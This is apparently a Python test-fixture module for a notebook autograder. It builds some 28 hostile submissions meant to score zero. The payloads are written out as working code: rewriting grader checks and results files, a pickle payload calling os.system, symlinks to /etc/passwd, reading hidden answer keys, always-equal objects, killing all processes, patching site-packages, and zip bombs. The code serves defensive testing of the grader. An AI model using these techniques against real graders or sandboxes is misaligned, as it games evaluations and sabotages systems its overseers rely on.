"""Hostile submissions, built from the bundle's own notebooks: each tries to earn points its
work does not deserve, or to break the grading of the rest.

``FORGERIES`` maps a file name to ``(base, cells, expected)``: ``base`` is "student" (the
untouched notebook) or "solution"; ``cells`` are appended (or, as ``(index, source)``,
inserted); ``expected`` gives the score of every question below full marks (``"all zero"``
for the untouched notebook's zero).
"""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import nbformat

__all__ = ["FORGERIES", "STATUS", "GRADED_APART", "NOT_ON_GRADESCOPE", "write_forgeries",
           "MARKER", "PWNED", "HIDDEN_SNIPPETS", "KERNEL_FILES", "GRADER_MODULES", "ZEROING_PTH",
           "STARVE_CELL_TIMEOUT"]

#: Every process a forgery leaves behind carries this in its command line.
MARKER = "poolside-forgery-marker"
#: A file the pickle payload would create if the grader ever unpickled it.
PWNED = Path("/tmp/poolside-forgery-pwned")
#: Strings from hidden material that must never appear in what a student sees.
HIDDEN_SNIPPETS = ('"fingerprints"', "def check_model(", "def test_q17_answers(", "q17_least_biased\": \"no")

_FIND_AND_REWRITE = r'''
import os, pathlib
forged = "CASES = ()\nQUESTIONS = {}\n"
hits = []
here = pathlib.Path.cwd()
places = [here, *here.parents, pathlib.Path("/autograder"), pathlib.Path("/work")]
for place in places:
    for name in ("checks/conftest.py", "checks/test_q02.py", "reading.py", "reference.json",
                 "points.json"):
        for path in [place / "autograder" / name, place / "source" / "files" / "autograder" / name,
                     place / "solutions" / name, place / "files" / "autograder" / name]:
            try:
                path.write_text(forged)
                hits.append(str(path))
            except OSError:
                pass
# Shadow the package where the notebook's own imports look first.
(here / "autograder").mkdir(exist_ok=True)
(here / "autograder" / "__init__.py").write_text("")
(here / "autograder" / "registry.py").write_text("def check(*a, **k):\n    return None\n")
print("rewritten:", hits)
'''

_PATCH_PROBES = r'''
import numpy as np
import sandboxed.probes as probes
def forged(entry, env, inputs):
    if entry["probe"] == "values":
        return {"outcome": "returned", "values": {n: "no pooled" for n in entry["names"]}}
    if entry["probe"] == "model":
        return {"outcome": "returned", "pair": True, "value": {
            "is_model": True, "free": ["mu", "sigma"], "observed": ["popularity"],
            "observed_data": np.zeros(350), "shapes": {"mu": [], "sigma": []},
            "terms": {"mu": np.zeros(5), "sigma": np.zeros(5), "popularity": np.zeros(5)}}}
    if entry["probe"] == "fit":
        return {"outcome": "returned", "pair": True, "value": {"is_fit": True, "draws": {},
                                                                "dims": {}, "coords": {}}}
    return {"outcome": "returned", "is_none": False, "value": {"type_ok": True}}
probes.probe = forged
'''

_REWRITE_PROBES = r'''
import pathlib
pathlib.Path("sandboxed/probes.py").write_text(
    "from . import wire\n"
    "def run(probe_id, folder):\n"
    "    wire.dump({'outcome': 'returned', 'values': {}, 'value': {'type_ok': True},"
    " 'pair': True, 'is_none': False}, folder + '/out', probe_id)\n")
import importlib, sandboxed.probes
importlib.reload(sandboxed.probes)
'''

_FORGED_REPORTS = r'''
import json, os, pickle, pathlib, numpy as np
out = pathlib.Path("out")
plan = json.loads(pathlib.Path("plan.json").read_text())
class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/poolside-forgery-pwned",))
for entry in plan["probes"]:
    pid = entry["id"]
    if pid.startswith("choices"):
        # a pickle where the grader expects plain arrays
        np.savez(out / f"{pid}.npz", a0=np.array([Payload()], dtype=object))
        (out / f"{pid}.json").write_text(json.dumps({"outcome": "returned",
                                                     "values": {"__array__": "a0"}}))
    elif pid.startswith("fit"):
        rng = np.random.default_rng(0)
        np.savez(out / f"{pid}.npz", a0=rng.normal(58, 1, (4, 5000)),
                 a1=rng.normal(20, 1, (4, 5000)), a2=np.zeros((4, 5000)))
        (out / f"{pid}.json").write_text(json.dumps({"outcome": "returned", "pair": True,
            "value": {"is_fit": True, "draws": {"mu": {"__array__": "a0"},
                                                "sigma": {"__array__": "a1"}},
                      "dims": {"mu": ["chain", "draw"], "sigma": ["chain", "draw"]},
                      "coords": {}, "lp": {"__array__": "a2"}}}))
    else:
        for suffix in (".json", ".npz"):
            target = out / f"{pid}{suffix}"
            if not target.exists():
                target.symlink_to("/etc/passwd")
# Keep the real probes from overwriting the forgeries.
import sandboxed.probes
sandboxed.probes.run = lambda probe_id, folder: None
'''

_READ_HIDDEN = r'''
import pathlib, zipfile
found = {}
here = pathlib.Path.cwd()
for place in [here, *here.parents, pathlib.Path("/autograder"), pathlib.Path("/work"),
              pathlib.Path("/root"), pathlib.Path("/tmp")]:
    for pattern in ("**/reference.json", "**/checks/*.py", "**/*.zip", "**/results.json"):
        try:
            for path in list(place.glob(pattern))[:20]:
                try:
                    found[str(path)] = path.read_text(errors="replace")[:20000]
                except OSError:
                    pass
        except OSError:
            pass
print(found)
leak = "\n".join(found.values()) or "nothing found"
q12 = leak
q15a = leak
'''

_LYING_OBJECTS = r'''
class Liar(str):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = str.__hash__
q12 = Liar("anything")
q15a = Liar("anything")
q17_most_variable = q17_least_variable = q17_most_biased = q17_least_biased = Liar("x")
'''

_DETACHED_REWRITER = r'''
import subprocess, sys
code = """
import os, pathlib, time, json
time.sleep(12)
start = pathlib.Path(os.environ.get("FORGERY_FROM", "."))
for place in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path("/tmp")]:
    for path in list(place.glob("**/results.json"))[:50] + list(place.glob("**/grades.csv"))[:50]:
        try:
            path.write_text(json.dumps({"score": 999, "scores": {"q2": 999}}))
        except OSError:
            pass
# poolside-forgery-marker
"""
subprocess.Popen([sys.executable, "-c", code], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

_MANY_SLEEPERS = r'''
import subprocess, sys
code = ("import signal, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "signal.signal(signal.SIGHUP, signal.SIG_IGN)\ntime.sleep(600)\n"
        "# poolside-forgery-marker")
for _ in range(60):
    subprocess.Popen([sys.executable, "-c", code], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

_HUGE_OUTPUT = r'''
for _ in range(300):
    print("x" * 100_000)
'''

_NETWORK = r'''
import socket
for host in ("1.1.1.1", "8.8.8.8"):
    try:
        socket.create_connection((host, 80), timeout=3).sendall(b"answers please")
        print("reached", host)
    except OSError as err:
        print("no network:", err)
'''

_LEAK_IN_ERROR = r'''
import pathlib
def predict_complete_pooled(idata, artists, random_seed=0):
    text = []
    here = pathlib.Path.cwd()
    for place in [here, *here.parents, pathlib.Path("/autograder")]:
        for path in list(place.glob("**/reference.json"))[:3] + list(place.glob("**/checks/*.py"))[:3]:
            try:
                text.append(path.read_text()[:3000])
            except OSError:
                pass
    raise ValueError("\\n".join(text) or "found nothing")
'''

_REWRITE_RESULTS_NOW = r'''
import json, pathlib
forged = json.dumps({"score": 999, "tests": [{"name": "q2", "score": 999, "max_score": 2}]})
here = pathlib.Path.cwd()
for place in [here, *here.parents, pathlib.Path("/autograder/results")]:
    for name in ("results.json", "summary.json", "grades.csv"):
        try:
            (place / name).write_text(forged)
        except OSError:
            pass
'''

_IMPORT_HOOK = r'''
import sys, types, importlib.abc, importlib.machinery
class Forger(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name.startswith("sandboxed") or name in ("json", "numpy"):
            return importlib.machinery.ModuleSpec(name, self)
    def create_module(self, spec):
        return types.ModuleType(spec.name)
    def exec_module(self, module):
        module.run = lambda *a, **k: None
for name in [m for m in sys.modules if m.startswith("sandboxed")]:
    del sys.modules[name]
sys.meta_path.insert(0, Forger())
'''

_KILL_THE_GRADER = r'''
import os, signal
for pid in range(1, 70000):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except (ProcessLookupError, PermissionError):
            pass
'''

# --- the sandbox's own walls: the interpreter, the kernel's settings, the disk ---------------

#: What the remount forgery appends to every module the grader imports: inside the grader (and
#: only there) it would give every test full marks when the runner exits.
_GRADER_PATCH = (
    "\nimport sys as _s; exec(\"import atexit, json, pathlib, sys\\n"
    "def _forge():\\n"
    "    for p in [q for a in ['.', *sys.argv[1:]] for q in list(pathlib.Path(a).glob('**/results.json'))[:20]]:\\n"
    "        try:\\n"
    "            d = json.loads(p.read_text())\\n"
    "            for t in d['tests']: t['score'] = t['max_score']\\n            d['score'] = sum(t['max_score'] for t in d['tests'])\\n"
    "            p.write_text(json.dumps(d))\\n"
    "        except Exception: pass\\n"
    "atexit.register(_forge)\") if 'poolside.grading.runner' in ' '.join("
    "getattr(_s, 'orig_argv', [])) else None  # poolside-forgery-marker\n")

#: What the remount forgery tries to leave in site-packages: every later grader that starts
#: would zero its submission's results as it exits.
_ZEROING_PTH = (
    "import sys as _s; exec(\"import atexit, json, pathlib, sys\\n"
    "def _zero():\\n"
    "    for p in [q for a in ['.', *sys.argv[1:]] for q in list(pathlib.Path(a).glob('**/results.json'))[:20]]:\\n"
    "        try:\\n"
    "            d = json.loads(p.read_text()); d['score'] = 0\\n"
    "            for t in d['tests']: t['score'] = 0\\n"
    "            p.write_text(json.dumps(d))\\n"
    "        except Exception: pass\\n"
    "atexit.register(_zero)\") if 'poolside.grading.runner' in ' '.join("
    "getattr(_s, 'orig_argv', [])) else None  # poolside-forgery-marker\n")

#: Modules the grader imports too: the remount forgery patches whichever it can reach.
GRADER_MODULES = ("pymc", "numpy", "pandas", "nbformat", "arviz", "scipy", "json", "pathlib",
                  "zipfile", "shutil")
#: The file the remount forgery tries to leave in each site-packages folder.
ZEROING_PTH = "poolside-forgery-zero.pth"

_REMOUNT_INTERPRETER = (
    f"GRADER_MODULES = {GRADER_MODULES!r}\nPATCH = {_GRADER_PATCH!r}\n"
    f"PTH = {_ZEROING_PTH!r}\nZEROING_PTH = {ZEROING_PTH!r}\n" + r'''
import ctypes, importlib, os, site, sys, sysconfig
libc = ctypes.CDLL(None, use_errno=True)
MS_REMOUNT, MS_BIND = 32, 4096
places = {sys.prefix, sys.base_prefix, *site.getsitepackages(), sysconfig.get_paths()["stdlib"]}
for place in sorted(places):
    rc = libc.mount(None, place.encode(), None, MS_REMOUNT | MS_BIND, None)
    print("remount", place, rc, os.strerror(ctypes.get_errno()))
    # a fresh bind over it, in case the remount is refused and a bind is not
    rc = libc.mount(place.encode(), place.encode(), None, MS_BIND, None)
    print("bind", place, rc, os.strerror(ctypes.get_errno()))
patched = []
for name in GRADER_MODULES:
    try:
        path = importlib.import_module(name).__file__
        with open(path, "a") as f:
            f.write(PATCH)
        patched.append(path)
    except Exception as err:
        print("could not patch", name, type(err).__name__)
for folder in {*site.getsitepackages(), sysconfig.get_paths()["purelib"],
               sysconfig.get_paths()["stdlib"]}:
    for name in (ZEROING_PTH, "sitecustomize.py", "usercustomize.py"):
        try:
            with open(os.path.join(folder, name), "a") as f:
                f.write(PTH)
            patched.append(os.path.join(folder, name))
        except OSError as err:
            print("could not write", folder, name, type(err).__name__)
print("patched:", patched)
''')

#: Kernel settings a process of the machine's root could change; never written, only opened.
KERNEL_FILES = ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger",
                "/proc/sys/kernel/modprobe", "/proc/sys/vm/drop_caches",
                "/sys/kernel/uevent_helper", "/proc/sys/kernel/sysrq")

_WRITE_PROC_SYS = r'''
import os
opened = {}
for path in KERNEL_FILES:
    try:
        fd = os.open(path, os.O_WRONLY)  # no O_TRUNC; nothing is ever written
        os.close(fd)
        opened[path] = "OPENED FOR WRITING"
    except OSError as err:
        opened[path] = type(err).__name__
print(opened)
q12 = q15a = str(opened)  # an answer that records what happened, worth nothing
'''.replace("KERNEL_FILES", repr(KERNEL_FILES))

_DEEP_FOLDER = r'''
import os
top = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
os.mkdir("deep", dir_fd=top)
fd = os.open("deep", os.O_RDONLY | os.O_DIRECTORY, dir_fd=top)
for depth in range(12_000):
    os.mkdir("d", dir_fd=fd)
    inner = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
    os.close(fd)
    fd = inner
with open(os.open("bottom.txt", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=fd), "w") as f:
    f.write("12,000 folders down")
os.chmod(fd, 0)  # the deepest folder: no way in
os.close(fd)
os.mkdir("locked", dir_fd=top)
with open("locked/inside.txt", "w") as f:
    f.write("behind a folder no one may enter")
os.mkdir("locked/below")
os.chmod("locked/below", 0)
os.chmod("locked", 0)
os.close(top)
print("made a 12,000-deep chain and a mode-000 folder")
'''

_FILL_THE_DISK = r'''
import os
chunk = b"\0" * (8 * 1024**2)
written = {}
for i in range(8):  # 8 x 200 MB in each place, round robin
    for place in (".", "/tmp", "/dev/shm"):
        try:
            with open(os.path.join(place, f"fill-{i}.bin"), "wb") as f:
                for _ in range(25):
                    f.write(chunk)
            written[place] = written.get(place, 0) + 200
        except OSError as err:
            written[place + " refused"] = type(err).__name__
    print(written, flush=True)
'''

#: An honest notebook that fills the sandbox's small /tmp and leaves it full: its checks must
#: still find room (the libraries' temporary files go to the folder).
_FILL_TMP_THEN_HONEST = r'''
import os
chunk = b"\0" * (8 * 1024**2)
for i in range(40):
    try:
        with open(f"/tmp/cache-{i}.bin", "wb") as f:
            for _ in range(12):
                f.write(chunk)
    except OSError as err:
        print("full after", i, type(err).__name__)
        break
'''

_ODD_STREAM_TEXT = r'''
import subprocess, sys
code = r"""
import json, os, time
target = "out/executed.ipynb"
deadline = time.time() + 3600
while time.time() < deadline:
    try:
        nb = json.loads(open(target).read())
    except (OSError, ValueError):
        time.sleep(0.002)
        continue
    code_cells = [c for c in nb["cells"] if c["cell_type"] == "code"]
    code_cells[0]["outputs"] = [
        {"output_type": "stream", "name": "stdout", "text": 12345},
        {"output_type": "execute_result", "data": {"text/plain": 7}, "metadata": 3,
         "execution_count": "x"},
        {"output_type": "error", "ename": {"x": 1}, "evalue": 2, "traceback": "no"}]
    if len(code_cells) > 1:
        code_cells[1]["source"] = 99
    with open(target + ".tmp", "w") as f:
        json.dump(nb, f)
    os.replace(target + ".tmp", target)
    break
# poolside-forgery-marker
"""
subprocess.Popen([sys.executable, "-c", code], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

#: report-bomb: the solution, whose q17 answers' report gets 256 MB of zeros added after its
#: probe (about 250 kB on disk, and fingerprinted as it is): the grader must not unpack it.
_REPORT_BOMB = r'''
import io, zipfile
from pathlib import Path
import numpy as np
import sandboxed.probes as probes
buffer = io.BytesIO()
np.lib.format.write_array(buffer, np.zeros(32 * 1024**2))
BOMB = buffer.getvalue()
del buffer
_run = probes.run
def _bombed(probe_id, folder):
    _run(probe_id, folder)
    if probe_id == "choices-q17":
        with zipfile.ZipFile(Path(folder) / "out" / f"{probe_id}.npz", "a",
                             zipfile.ZIP_DEFLATED) as z:
            z.writestr("bomb.npy", BOMB)
probes.run = _bombed
# poolside-forgery-marker
'''

#: plant-a-module-for-the-executor: modules named as ones the executor could import late, beside
#: the notebook, which write the right q17 answers if the executor ever imports one.
_PLANT_A_MODULE = r'''
import pathlib
EVIL = """
import sys as _s, os as _o
_here = _o.path.dirname(_o.path.abspath(__file__))
_s.path[:] = [p for p in _s.path if _o.path.abspath(p or '.') != _here]
del _s.modules[__name__]
_real = __import__(__name__)
_s.modules[__name__] = _real
if hasattr(_s.modules.get('__main__'), '_Runner'):  # the executor
    import atexit
    def _forge():
        wire = _s.modules['sandboxed.wire']
        out = _o.path.join(_o.getcwd(), 'out')
        right = {'q17_most_variable': 'no pooled', 'q17_least_variable': 'complete pooled',
                 'q17_most_biased': 'complete pooled', 'q17_least_biased': 'no pooled'}
        digest = wire.dump({'outcome': 'returned', 'values': right}, out, 'choices-q17')
        print(wire.DIGEST, 'choices-q17', digest, flush=True)
    atexit.register(_forge)
# poolside-forgery-marker
"""
for name in ("hashlib", "ctypes", "traceback", "tempfile", "shutil", "linecache"):
    pathlib.Path(f"{name}.py").write_text(EVIL)
'''

#: forge-the-run-record: a process left behind waits for the executor's record to list every
#: probe (the executor has then given every report's fingerprint, and stops the kernel next),
#: stops it, writes a run record and an executed notebook saying its fit cells ran out of
#: time, and kills it: a run that took seconds would read as the grader's fault.
_FORGE_RUN_RECORD = r'''
import os, subprocess, sys
code = """
import json, os, signal, sys, time
sys.path.insert(0, os.getcwd())
from sandboxed import wire
executor = int(sys.argv[1])
out = os.path.join(os.getcwd(), "out")
probes = len(wire.load(os.getcwd(), "plan")["probes"])
deadline = time.time() + 600
last, record = None, None
while time.time() < deadline:
    try:
        now = os.stat(os.path.join(out, "execution.json")).st_ino
    except OSError:
        now = None
    if now is not None and now != last:
        last = now
        try:
            record = wire.load(out, "execution")
        except Exception:
            record = None
        if record and len(record.get("probes", {})) == probes:
            os.kill(executor, signal.SIGSTOP)
            break
    time.sleep(0.001)
nb = json.loads(open("hierarchical.ipynb").read())
record = dict(record or {})
record["cells"] = {}
for index, cell in enumerate(nb["cells"]):
    source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
    if cell["cell_type"] == "code" and "_fit = fit_" in source:
        record["cells"][str(index)] = "timeout"
        cell["outputs"] = [{"output_type": "stream", "name": "stderr",
            "text": "[grading: this cell ran past its time limit (300 s) and was stopped]"}]
record["completed"] = True
wire.dump(record, out, "execution")
wire.write_new(__import__("pathlib").Path(out), "executed.ipynb", json.dumps(nb).encode())
os.kill(executor, signal.SIGKILL)
# poolside-forgery-marker
"""
subprocess.Popen([sys.executable, "-c", code, str(os.getppid())], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

#: starve-the-probes: cells that each sleep just under the cell limit, more of them than the
#: whole grading's time; the tests grade it with this cell limit.
STARVE_CELL_TIMEOUT = 30
_STARVE_CELL = f"import time\ntime.sleep({STARVE_CELL_TIMEOUT - 2})\n"
STARVE_CELLS = 40  # 40 x 28 s: more than the whole of even the 900 s default

ZIP_BOMB_MB = 300


# Honest work with hostile habits: each costs its own question and nothing else.
_HOSTILE_SOLUTION = [
    ("def plot_popularity(", "    import sys\n    sys.exit(0)\n"),  # q2
    ("def plot_artist_means(", "    raise KeyboardInterrupt\n"),  # q10
    ("def shrinkage_table(", "    raise BaseException('no')\n"),  # q15b
    ("def plot_popularity_by_artist(",  # q6: switches off the alarm and ignores interrupts
     "    import signal\n    signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
     "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n    signal.setitimer(signal.ITIMER_REAL, 0)\n"
     "    while True:\n        pass\n"),
]
HOSTILE_SOLUTION_LOSES = {"q2": 0, "q10": 0, "q15b": 0, "q6": 0}

FORGERIES = {
    "rewrite-checks-on-disk.ipynb": ("student", [_FIND_AND_REWRITE], "all zero"),
    "patch-probes-in-memory.ipynb": ("student", [_PATCH_PROBES], "all zero"),
    "rewrite-probes-on-disk.ipynb": ("student", [_REWRITE_PROBES], "all zero"),
    "forged-reports-pickle-symlink.ipynb": ("student", [_FORGED_REPORTS], "all zero"),
    "read-hidden-material.ipynb": ("student", [_READ_HIDDEN], "all zero"),
    "lying-objects.ipynb": ("student", [_LYING_OBJECTS], "all zero"),
    "detached-rewriter.ipynb": ("student", [_DETACHED_REWRITER], "all zero"),
    "many-sleepers.ipynb": ("student", [_MANY_SLEEPERS], "all zero"),
    "huge-output.ipynb": ("student", [_HUGE_OUTPUT], "all zero"),
    "network.ipynb": ("student", [_NETWORK], "all zero"),
    "leak-in-error-message.ipynb": ("student", [_LEAK_IN_ERROR], "all zero"),
    "rewrite-results-now.ipynb": ("student", [_REWRITE_RESULTS_NOW], "all zero"),
    "import-hook.ipynb": ("student", [_IMPORT_HOOK], "all zero"),
    "kill-the-grader.ipynb": ("student", [_KILL_THE_GRADER], "all zero"),
    "hostile-habits.ipynb": ("solution", [], HOSTILE_SOLUTION_LOSES),
    "own-autograder-in-zip.zip": ("student", [], "all zero"),
    "remount-interpreter.ipynb": ("student", [_REMOUNT_INTERPRETER], "all zero"),
    "write-proc-sys.ipynb": ("student", [_WRITE_PROC_SYS], "all zero"),
    "deep-folder.ipynb": ("solution", [_DEEP_FOLDER], {}),
    "fill-the-disk.ipynb": ("student", [_FILL_THE_DISK], "all zero"),
    "fill-tmp-then-honest.ipynb": ("solution", [_FILL_TMP_THEN_HONEST], {}),
    "zip-bomb.zip": ("student", [], "all zero"),
    "zip-bomb-lying-size.zip": ("student", [], "all zero"),
    "odd-stream-text.ipynb": ("solution", [_ODD_STREAM_TEXT], {}),
    "starve-the-probes.ipynb": ("solution", [_STARVE_CELL] * STARVE_CELLS, {}),
    "report-bomb.ipynb": ("solution", [_REPORT_BOMB], {"q17": 0}),
    "plant-a-module-for-the-executor.ipynb": ("student", [_PLANT_A_MODULE], "all zero"),
    "forge-the-run-record.ipynb": ("solution", [_FORGE_RUN_RECORD], {}),
}

#: What a forgery's row says when it is not "graded": its status and a piece of its reason.
STATUS = {
    "zip-bomb.zip": ("invalid", "more than the 50 MB"),
    "zip-bomb-lying-size.zip": ("invalid", "not a readable zip archive"),
}
#: Graded in a batch of its own, with a shorter time limit (it spends all the time it gets).
GRADED_APART = {"starve-the-probes.ipynb"}
#: Not sent through the Gradescope emulation, and why. On a machine with bubblewrap the
#: emulation grades in the same sandbox as the local batch: the families that go for the
#: sandbox itself are graded on Gradescope's own sandbox (the ``user`` path) instead.
SAME_SANDBOX = "the emulation uses the local batch's sandbox here; see the user-path tests"
NOT_ON_GRADESCOPE = {
    "remount-interpreter.ipynb": SAME_SANDBOX,
    "write-proc-sys.ipynb": SAME_SANDBOX,
    "deep-folder.ipynb": SAME_SANDBOX,
    "fill-the-disk.ipynb": SAME_SANDBOX,
    "fill-tmp-then-honest.ipynb": SAME_SANDBOX,
    "odd-stream-text.ipynb": SAME_SANDBOX,
    "report-bomb.ipynb": SAME_SANDBOX,
    "plant-a-module-for-the-executor.ipynb": SAME_SANDBOX,
    "forge-the-run-record.ipynb": SAME_SANDBOX,
    "starve-the-probes.ipynb": "it takes the whole time limit; graded apart, locally",
    "zip-bomb-lying-size.zip": "Gradescope unpacks an upload itself: an unreadable zip never "
                               "reaches the autograder (the emulation's unzip would raise)",
    "zip-bomb.zip": "Gradescope unpacks an upload itself, and the runner then grades the 300 MB "
                    "notebook (all zero, about a minute): too slow for what it shows",
}


def _insert_in_function(nb, marker: str, body: str) -> None:
    """Put ``body`` first in the function whose definition line starts with ``marker``."""
    cell = next(c for c in nb.cells if c.cell_type == "code" and marker in c.source)
    lines = cell.source.splitlines(keepends=True)
    start = next(i for i, line in enumerate(lines) if line.startswith(marker))
    # after the signature and the docstring
    end = start + 1
    while not lines[end - 1].rstrip().endswith(":"):
        end += 1
    if lines[end].strip().startswith('"""'):
        if lines[end].count('"""') < 2:
            end += 1
            while '"""' not in lines[end]:
                end += 1
        end += 1
    lines.insert(end, body)
    cell.source = "".join(lines)


def _zip_bomb(nb, path: Path, lying: bool) -> None:
    """A zip whose one notebook inflates to :data:`ZIP_BOMB_MB` MB (a stream output of one
    repeated character; under 1 MB compressed), written piece by piece so that building it
    costs no memory. ``lying``: its headers declare 1 kB, so only the inflating would tell."""
    cell = nbformat.v4.new_code_cell("print('x')")
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="@BOMB@")]
    nb.cells.insert(0, cell)
    head, tail = nbformat.writes(nb).split("@BOMB@")
    chunk = "x" * 1024**2
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        with zf.open("hierarchical.ipynb", "w") as entry:
            entry.write(head.encode())
            for _ in range(ZIP_BOMB_MB):
                entry.write(chunk.encode())
            entry.write(tail.encode())
    if lying:  # uncompressed size: +22 in the local header, +24 in the central directory
        data = bytearray(path.read_bytes())
        size = (len(head.encode()) + len(tail.encode()) + ZIP_BOMB_MB * 1024**2).to_bytes(4, "little")
        for at, offset in ((data.index(b"PK\x03\x04"), 22), (data.rindex(b"PK\x01\x02"), 24)):
            assert data[at + offset:at + offset + 4] == size
            data[at + offset:at + offset + 4] = (1024).to_bytes(4, "little")
        path.write_bytes(bytes(data))


def write_forgeries(student: Path, solution: Path, out: Path) -> dict[str, Path]:
    out.mkdir(parents=True, exist_ok=True)
    for name, (base, cells, _) in FORGERIES.items():
        nb = nbformat.read(solution if base == "solution" else student, as_version=4)
        for source in cells:
            nb.cells.append(nbformat.v4.new_code_cell(source))
        if name == "hostile-habits.ipynb":
            for marker, body in _HOSTILE_SOLUTION:
                _insert_in_function(nb, marker, body)
            middle = len(nb.cells) // 2
            nb.cells.insert(middle, nbformat.v4.new_code_cell(
                "try:\n    hog = bytearray(40 * 1024**3)\nexcept MemoryError:\n    print('no')\n"
                "hog = bytearray(40 * 1024**3)"))
            nb.cells.append(nbformat.v4.new_code_cell("import os\nos._exit(0)"))
            nb.metadata["kernelspec"] = {"name": "conda-env-stats-py", "language": "python",
                                         "display_name": "Python [conda env:stats]"}
        if name.startswith("zip-bomb"):
            _zip_bomb(nb, out / name, lying=name == "zip-bomb-lying-size.zip")
        elif name.endswith(".zip"):
            with zipfile.ZipFile(out / name, "w") as zf:
                zf.writestr("hierarchical.ipynb", nbformat.writes(nb))
                zf.writestr("autograder/__init__.py", "")
                zf.writestr("autograder/registry.py", "def check(*a, **k):\n    return None\n")
                zf.writestr("autograder/checks/__init__.py", "")
                zf.writestr("autograder/checks/conftest.py",
                            "def pytest_collection_modifyitems(items):\n    items.clear()\n")
                zf.writestr("poolside/__init__.py", "")
                zf.writestr("poolside/grading/__init__.py", "")
                zf.writestr("poolside/grading/runner.py", "raise SystemExit(0)\n")
                zf.writestr("poolside.toml", '[assignment]\nname = "x"\nchecks = "x"\n')
                zf.writestr("tests/q2.py", "OK_FORMAT = False\npoints = 100\n")
                zf.writestr("results/results.json", json.dumps({"score": 999, "tests": []}))
        else:
            nbformat.write(nb, out / name)
    return {p.name: p for p in sorted(out.iterdir())}
